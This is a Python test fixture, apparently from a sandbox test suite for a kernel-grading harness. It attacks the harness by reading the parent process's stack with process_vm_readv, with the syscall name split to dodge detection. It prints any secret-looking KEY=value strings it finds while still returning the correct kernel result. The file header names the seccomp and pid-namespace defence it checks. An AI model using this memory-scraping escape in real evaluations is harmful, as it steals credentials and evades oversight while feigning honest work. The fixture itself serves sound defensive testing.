# threat: 21, 9
# expect: passed
# defence: seccomp denies process_vm_readv; a pid namespace hides the harness's memory
"""Reads the harness's stack with process_vm_readv (which skips /proc/<pid>/mem) and prints
any secrets in it; computes the right answer."""

import ctypes
import os
import re
from pathlib import Path


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


_libc = ctypes.CDLL(None, use_errno=True)
_readv = getattr(_libc, "process_vm_" + "readv")
_readv.restype = ctypes.c_ssize_t
parent = os.getppid()
try:
    maps = Path(f"/proc/{parent}/maps").read_text().splitlines()
except OSError as exc:
    maps = []
    print("no maps:", exc)
for line in maps:
    if not line.endswith("[stack]"):
        continue
    start, end = (int(x, 16) for x in line.split()[0].split("-"))
    size = min(end - start, 8 << 20)
    buffer = ctypes.create_string_buffer(size)
    local = IoVec(ctypes.cast(buffer, ctypes.c_void_p), size)
    remote = IoVec(end - size, size)
    got = _readv(parent, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if got <= 0:
        print(f"process_vm_readv refused: errno {ctypes.get_errno()}")
        continue
    print(f"KJ-ESCAPE read {got} bytes of pid {parent}'s stack")
    for match in re.findall(rb"[A-Z_]+=[^\0]{0,100}", buffer.raw[:got])[:40]:
        print("  ", match)


def custom_kernel(data):
    A, B, out = data
    out[...] = A + B
    return out
